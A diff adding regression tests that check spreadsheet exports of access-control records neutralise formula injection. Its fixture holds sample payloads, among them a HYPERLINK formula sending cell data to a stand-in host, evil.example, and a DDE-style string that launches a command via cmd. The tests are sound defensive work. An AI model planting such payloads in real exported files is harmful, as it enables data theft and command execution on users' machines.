@@ -241,3 +241,60 @@ def test_unreachable_postgres_is_refused(tmp_path: Path) -> None:
         open_store("postgresql://postgres:secret@127.0.0.1:1/x", tmp_path / "images")
     assert err.value.key == "cannot_connect"
     assert "secret" not in str(err.value)
+
+
+# Issue 13, finding 9: a device-sent PersonID became a live formula in the XLSX and the CSV.
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
+
+
+@pytest.fixture
+def forged_store(tmp_path: Path) -> Iterator[RecordStore]:
+    opened = open_store(f"sqlite:///{tmp_path}/forged.db", tmp_path / "images")
+    for minutes, person in enumerate((FORMULA, "@SUM(1+1)*cmd|' /C calc'!A0", "＝1+1", "-12.5")):
+        opened.add(
+            NewRecord(
+                time=NOW - timedelta(minutes=minutes),
+                kind=RecordKind.DENIAL,
+                device="+8613800138000",
+                person_id=person,
+                reason="\t=1+1",
+                attributes={"card_no": "=2+3"},
+            )
+        )
+    yield opened
+    opened.close()
+
+
+def test_xlsx_export_writes_device_text_as_text_never_as_formula(
+    forged_store: RecordStore, tmp_path: Path
+) -> None:
+    path = tmp_path / "out.xlsx"
+    export_records(forged_store, RecordQuery(), path, admin=True)
+    sheet = load_workbook(path).active
+    assert sheet is not None
+    rows = list(sheet.iter_rows(min_row=2))
+    persons = {row[4].value: row[4] for row in rows}
+    assert set(persons) == {FORMULA, "@SUM(1+1)*cmd|' /C calc'!A0", "＝1+1", "-12.5"}
+    for cell in (*persons.values(), *(row[8] for row in rows)):
+        assert cell.data_type == "s"  # a string, not "f"
+    assert persons[FORMULA].quotePrefix  # and Excel keeps it text when the cell is edited
+    assert not persons["-12.5"].quotePrefix  # a plain number in text needs no escaping
+    assert all(row[3].value == "+8613800138000" for row in rows)  # phone numbers as they are
+    assert all(isinstance(row[0].value, int) for row in rows)  # ids stay numbers
+
+
+def test_csv_export_escapes_formula_looking_text_only(
+    forged_store: RecordStore, tmp_path: Path
+) -> None:
+    path = tmp_path / "out.csv"
+    export_records(forged_store, RecordQuery(), path, admin=True)
+    rows = list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines()))[1:]
+    assert {row[4] for row in rows} == {
+        "'" + FORMULA,
+        "'@SUM(1+1)*cmd|' /C calc'!A0",
+        "'＝1+1",
+        "-12.5",
+    }
+    assert {row[8] for row in rows} == {"'\t=1+1"}
+    assert {row[3] for row in rows} == {"+8613800138000"}
+    assert all(row[0].isdigit() for row in rows)
